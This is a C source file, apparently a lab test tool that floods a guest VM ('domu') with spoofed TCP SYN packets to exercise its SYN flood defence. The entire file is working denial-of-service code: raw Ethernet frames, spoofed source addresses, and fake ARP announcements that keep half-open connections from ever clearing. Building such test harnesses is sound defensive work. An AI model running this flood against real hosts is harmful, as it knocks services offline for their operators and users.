/* synflood: a SYN flood that never completes a handshake, from Dom0's
 * bridge, for domu's SYN flood defence (scenario 33).
 *
 *   synflood IFACE DST_MAC DST_IP PORT SRC_IP NSRC RATE SECONDS
 *
 * Sends SYNs to DST_IP:PORT from NSRC made-up addresses SRC_IP, SRC_IP+1...
 * (random source ports and sequence numbers) at RATE per second for
 * SECONDS. Each made-up address is announced with an ARP request to
 * DST_IP from a made-up MAC every second, so domu's SYN-ACKs go to a MAC
 * nobody has and no RST ever comes back: every half-open connection stays
 * half open. Raw Ethernet frames (AF_PACKET): Dom0's own TCP never sees
 * any of it. Prints how many SYNs it sent. */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static long long now_ns(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000000000LL + ts.tv_nsec;
}

static void p16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)(v >> 8); p[1] = (uint8_t)v; }
static void p32(uint8_t *p, uint32_t v) { p16(p, (uint16_t)(v >> 16)); p16(p + 2, (uint16_t)v); }

static uint32_t sum(const uint8_t *p, size_t n, uint32_t s)
{
    for (size_t i = 0; i + 1 < n; i += 2)
        s += (uint32_t)(p[i] << 8 | p[i + 1]);
    if (n & 1)
        s += (uint32_t)p[n - 1] << 8;
    return s;
}

static uint16_t fold(uint32_t s)
{
    while (s >> 16)
        s = (s & 0xffff) + (s >> 16);
    return (uint16_t)~s;
}

static void fake_mac(uint8_t *m, unsigned i)
{
    static const uint8_t base[6] = { 0x02, 0x00, 0x5f, 0x10, 0x00, 0x00 };
    memcpy(m, base, 6);
    m[4] = (uint8_t)(i >> 8);
    m[5] = (uint8_t)i;
}

static int parse_mac(const char *s, uint8_t *m)
{
    unsigned v[6];
    if (sscanf(s, "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6)
        return -1;
    for (int i = 0; i < 6; i++)
        m[i] = (uint8_t)v[i];
    return 0;
}

int main(int argc, char **argv)
{
    if (argc != 9) {
        fprintf(stderr, "usage: synflood IFACE DST_MAC DST_IP PORT SRC_IP NSRC RATE SECONDS\n");
        return 2;
    }
    uint8_t dmac[6];
    struct in_addr dip, sip;
    if (parse_mac(argv[2], dmac) || !inet_aton(argv[3], &dip) || !inet_aton(argv[5], &sip)) {
        fprintf(stderr, "synflood: bad MAC or address\n");
        return 2;
    }
    unsigned port = (unsigned)atoi(argv[4]), nsrc = (unsigned)atoi(argv[6]);
    long rate = atol(argv[7]), secs = atol(argv[8]);
    if (!port || port > 65535 || !nsrc || nsrc > 256 || rate <= 0 || secs <= 0) {
        fprintf(stderr, "synflood: bad port, NSRC (1-256), rate or seconds\n");
        return 2;
    }
    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (fd < 0) {
        perror("synflood: socket");
        return 1;
    }
    struct sockaddr_ll sa = { .sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argv[1]),
                              .sll_halen = 6 };
    if (!sa.sll_ifindex) {
        fprintf(stderr, "synflood: no interface %s\n", argv[1]);
        return 1;
    }
    uint32_t dst = ntohl(dip.s_addr), src0 = ntohl(sip.s_addr);
    srandom((unsigned)now_ns());
    long long start = now_ns(), end = start + secs * 1000000000LL, next_arp = 0;
    long long gap = 1000000000LL / rate, next = start;
    unsigned long sent = 0, failed = 0;
    uint8_t f[64];
    while (now_ns() < end) {
        long long t = now_ns();
        if (t >= next_arp) {
            /* "who has DST tell SRC": domu learns the made-up MAC */
            for (unsigned i = 0; i < nsrc; i++) {
                memset(f, 0, sizeof(f));
                memset(f, 0xff, 6);
                fake_mac(f + 6, i);
                p16(f + 12, 0x0806);
                p16(f + 14, 1);
                p16(f + 16, 0x0800);
                f[18] = 6;
                f[19] = 4;
                p16(f + 20, 1);
                fake_mac(f + 22, i);
                p32(f + 28, src0 + i);
                p32(f + 38, dst);
                memcpy(sa.sll_addr, f, 6);
                if (sendto(fd, f, 60, 0, (struct sockaddr *)&sa, sizeof(sa)) != 60)
                    failed++;
            }
            next_arp = t + 1000000000LL;
        }
        if (t < next) {
            long long d = next - t;
            struct timespec ts = { 0, d > 999999999 ? 999999999 : d };
            nanosleep(&ts, 0);
            continue;
        }
        next += gap;
        unsigned i = (unsigned)(sent % nsrc);
        uint32_t src = src0 + i;
        memset(f, 0, sizeof(f));
        memcpy(f, dmac, 6);
        fake_mac(f + 6, i);
        p16(f + 12, 0x0800);
        uint8_t *ip = f + 14, *tcp = ip + 20;
        ip[0] = 0x45;
        p16(ip + 2, 20 + 24);
        p16(ip + 4, (uint16_t)sent);
        ip[8] = 64;
        ip[9] = 6;
        p32(ip + 12, src);
        p32(ip + 16, dst);
        p16(ip + 10, fold(sum(ip, 20, 0)));
        p16(tcp, (uint16_t)(1024 + random() % 60000));
        p16(tcp + 2, (uint16_t)port);
        p32(tcp + 4, (uint32_t)random());
        tcp[12] = 6 << 4;
        tcp[13] = 0x02; /* SYN */
        p16(tcp + 14, 64240);
        tcp[20] = 2;
        tcp[21] = 4;
        p16(tcp + 22, 1460);
        uint8_t ph[12];
        p32(ph, src);
        p32(ph + 4, dst);
        ph[8] = 0;
        ph[9] = 6;
        p16(ph + 10, 24);
        p16(tcp + 16, fold(sum(tcp, 24, sum(ph, 12, 0))));
        memcpy(sa.sll_addr, dmac, 6);
        if (sendto(fd, f, 60, 0, (struct sockaddr *)&sa, sizeof(sa)) == 60)
            sent++;
        else
            failed++;
    }
    printf("synflood: %lu SYNs sent in %ld s from %u addresses (%lu sends failed)\n", sent, secs,
           nsrc, failed);
    return sent ? 0 : 1;
}
